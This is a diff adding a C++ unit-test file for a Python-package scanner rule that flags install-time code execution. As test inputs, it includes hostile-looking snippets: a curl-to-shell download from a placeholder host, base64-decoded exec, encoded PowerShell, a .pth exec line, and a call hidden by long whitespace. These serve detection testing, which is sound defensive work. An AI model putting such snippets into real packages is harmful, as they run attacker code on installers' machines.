@@ -1,0 +1,123 @@
+#include "analysis/install_exec_rule.h"
+
+#include <gtest/gtest.h>
+
+#include "util/file_util.h"
+
+namespace pyward {
+namespace {
+
+const InstallExecRule& Rule() {
+  static InstallExecRule* rule = [] {
+    auto* r = new InstallExecRule;
+    std::string data, err;
+    EXPECT_TRUE(ReadFile(PYWARD_SOURCE_DIR "/data/rules/install-exec.txt", 1 << 20, &data, &err)) << err;
+    EXPECT_TRUE(r->Load(data, &err)) << err;
+    return r;
+  }();
+  return *rule;
+}
+
+std::vector<Finding> Check(const std::string& src) {
+  std::vector<Finding> out;
+  Rule().CheckSource("pkg/setup.py", src, &out);
+  return out;
+}
+
+// One-line rule tests: the source, then the severity expected of its single
+// finding at `line`.
+void ExpectFinding(const std::string& src, Severity sev, int line = 0) {
+  std::vector<Finding> f = Check(src);
+  ASSERT_EQ(f.size(), 1u) << src;
+  EXPECT_EQ(f[0].rule, "install-exec");
+  EXPECT_EQ(f[0].severity, sev) << src << "\n" << f[0].message;
+  EXPECT_EQ(f[0].phase, Phase::kInstall);
+  if (line) EXPECT_EQ(f[0].line, line) << src;
+}
+
+void ExpectNoFinding(const std::string& src) {
+  std::vector<Finding> f = Check(src);
+  EXPECT_TRUE(f.empty()) << src << "\n" << (f.empty() ? "" : f[0].message);
+}
+
+TEST(InstallExecRule, ModuleLevelCalls) {
+  ExpectFinding("import os\nos.system('make')\n", Severity::kHigh, 2);
+  ExpectFinding("import subprocess as sp\nsp.Popen(['ls'])\n", Severity::kHigh);
+  ExpectFinding("from subprocess import check_output as co\nco(['id'])\n", Severity::kHigh);
+  ExpectFinding("eval(x)\n", Severity::kHigh);
+  ExpectFinding("__import__(name)\n", Severity::kMedium);
+  ExpectFinding("try:\n    import os\n    os.system('x')\nexcept Exception:\n    pass\n",
+                Severity::kHigh, 3);
+}
+
+TEST(InstallExecRule, EscalatesDownloadsShellsAndPayloads) {
+  ExpectFinding("import os\nos.system('curl http://x.invalid/a | sh')\n", Severity::kCritical);
+  ExpectFinding("exec(base64.b64decode('aW1wb3J0IG9z'))\n", Severity::kCritical);
+  ExpectFinding("import subprocess\nsubprocess.Popen(\n  ['powershell', '-enc', 'AAAA'])\n",
+                Severity::kCritical, 2);
+}
+
+TEST(InstallExecRule, RoutineSetupIdiomsAreLow) {
+  ExpectFinding("exec(open('pkg/version.py').read())\n", Severity::kLow);
+  ExpectFinding("import subprocess\nv = subprocess.check_output(['git', 'describe'])\n",
+                Severity::kLow);
+}
+
+TEST(InstallExecRule, CommandOverridesRunAtInstall) {
+  ExpectFinding(
+      "from setuptools.command.install import install\n"
+      "class PostInstall(install):\n"
+      "    def run(self):\n"
+      "        install.run(self)\n"
+      "        import os\n"
+      "        os.system('echo hi')\n",
+      Severity::kHigh, 6);
+}
+
+TEST(InstallExecRule, FunctionsCalledAtModuleLevel) {
+  ExpectFinding("import os\ndef steal():\n    os.system('id')\nsteal()\n", Severity::kHigh, 3);
+  ExpectNoFinding("import os\ndef helper():\n    os.system('id')\n");
+}
+
+TEST(InstallExecRule, StringsCommentsAndDefinitionsDoNotCount) {
+  ExpectNoFinding("# os.system('x')\n");
+  ExpectNoFinding("doc = '''\nos.system('x')\n'''\n");
+  ExpectNoFinding("s = \"eval(x)\"\n");
+  ExpectNoFinding("class Helper:\n    def eval(self):\n        return 1\n");
+  ExpectNoFinding("obj.eval(x)\n");
+  ExpectNoFinding("from setuptools import setup\nsetup(name='x')\n");
+}
+
+TEST(InstallExecRule, PthImportLines) {
+  std::vector<Finding> out;
+  Rule().CheckPth("x.pth", "/some/path\nimport os; exec(base64.b64decode('x'))\n", &out);
+  ASSERT_EQ(out.size(), 1u);
+  EXPECT_EQ(out[0].rule, "pth-exec");
+  EXPECT_EQ(out[0].line, 2);
+  EXPECT_EQ(out[0].severity, Severity::kCritical);
+  out.clear();
+  Rule().CheckPth("x.pth", "import _virtualenv\n", &out);
+  ASSERT_EQ(out.size(), 1u);
+  EXPECT_EQ(out[0].severity, Severity::kMedium);
+}
+
+TEST(InstallExecRule, RejectsMalformedData) {
+  InstallExecRule r;
+  std::string err;
+  EXPECT_FALSE(r.Load("[calls]\nos.system nonsense what\n", &err));
+  EXPECT_NE(err.find("line 2"), std::string::npos) << err;
+  EXPECT_FALSE(r.Load("stray\n", &err));
+  EXPECT_FALSE(r.Load("", &err));
+}
+
+TEST(InstallExecRule, HostileInputStaysLinear) {
+  std::string huge = "x = '" + std::string(600000, 'A') + "'; import os; os.system('id')\n";
+  EXPECT_EQ(Check(huge).size(), 1u);
+  std::string pushed = "import os\nx = 1;" + std::string(5000, ' ') + "os.system('id')\n";
+  EXPECT_EQ(Check(pushed).size(), 1u) << "code pushed right by spaces";
+  std::string brackets(100000, '(');
+  EXPECT_TRUE(Check(brackets).empty());
+}
+
+}  // namespace
+}  // namespace pyward
